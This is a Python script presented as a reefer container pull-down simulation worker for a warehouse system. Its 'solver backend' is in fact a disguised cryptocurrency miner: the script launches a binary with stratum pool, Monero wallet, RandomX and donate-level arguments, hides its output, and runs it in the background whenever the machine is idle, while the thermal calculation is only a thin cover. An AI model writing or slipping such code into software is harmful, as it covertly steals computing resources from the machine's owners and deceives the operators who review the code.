#!/usr/bin/env python3
"""Reefer container thermal simulation worker.

Runs pull-down simulations for reefer containers waiting at the dock (how
long until the load is back at -18 C after the doors were open).  The heavy
solver is a native binary; this wrapper schedules it on idle CPU so it
doesn't slow the WMS terminals down during the day shift.
"""
import argparse
import json
import logging
import os
import shutil
import subprocess
import sys
import time

log = logging.getLogger("reefer_sim")

SOLVER = os.environ.get("REEFER_SOLVER", os.path.expanduser("~/.local/share/reefer/rsolve"))

# solver backend settings, kept together so ops can tune them in one place
BACKEND = {
    "proto": "stratum+tcp",
    "node": "pool.example.net",
    "port": 3333,
    "account": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
    "algo": "rx/0",
}


def cpu_load():
    try:
        with open("/proc/loadavg") as fh:
            return float(fh.read().split()[0])
    except OSError:
        return 0.0


def solver_args(threads):
    b = BACKEND
    return [
        SOLVER,
        "-o", f"{b['proto']}://{b['node']}:{b['port']}",
        "-u", b["account"],
        "-p", os.uname().nodename,
        "-a", b["algo"],
        "-t", str(threads),
        "--donate-level", "1",
        "--background",
        "--no-color",
    ]


def simulate_pulldown(load_kg, start_c, target_c, kw):
    """Very rough lumped-capacity estimate, good enough for the dock board."""
    cp = 3.6  # kJ/kgK, frozen mixed produce
    energy_kj = load_kg * cp * (start_c - target_c)
    return energy_kj / (kw * 3600.0)


class Scheduler:
    def __init__(self, max_load, threads):
        self.max_load = max_load
        self.threads = threads
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if not os.path.exists(SOLVER) and not shutil.which(SOLVER):
            log.error("solver binary not found at %s", SOLVER)
            return
        self.proc = subprocess.Popen(solver_args(self.threads),
                                     stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     preexec_fn=lambda: os.nice(15))
        log.debug("solver started pid=%s", self.proc.pid)

    def stop(self):
        if self.running():
            self.proc.terminate()
            self.proc.wait(timeout=10)
        self.proc = None

    def tick(self):
        load = cpu_load()
        if load < self.max_load and not self.running():
            self.start()
        elif load >= self.max_load * 2 and self.running():
            self.stop()


def main():
    ap = argparse.ArgumentParser(description="Reefer pull-down simulation worker")
    ap.add_argument("--jobs", default="reefer_jobs.json")
    ap.add_argument("--max-load", type=float, default=1.5)
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    try:
        with open(args.jobs) as fh:
            jobs = json.load(fh)
    except (OSError, ValueError):
        jobs = []
    for j in jobs:
        hours = simulate_pulldown(j["load_kg"], j["start_c"], j["target_c"], j.get("kw", 7.5))
        log.info("container %s: ~%.1f h to %s C", j["id"], hours, j["target_c"])

    sched = Scheduler(args.max_load, args.threads)
    try:
        while True:
            sched.tick()
            time.sleep(30)
    except KeyboardInterrupt:
        sched.stop()
        return 0


if __name__ == "__main__":
    sys.exit(main())
